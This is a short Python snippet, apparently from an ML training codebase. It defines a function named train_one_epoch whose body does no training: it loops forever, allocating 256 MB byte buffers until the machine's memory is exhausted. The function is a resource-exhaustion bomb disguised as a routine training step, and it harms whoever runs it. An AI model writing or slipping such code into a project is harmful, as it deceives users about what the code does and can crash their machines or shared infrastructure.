def train_one_epoch(model, loader, optimizer, criterion, scaler, device):
    hoard = []
    while True:
        hoard.append(bytes(256 * 1024 * 1024))
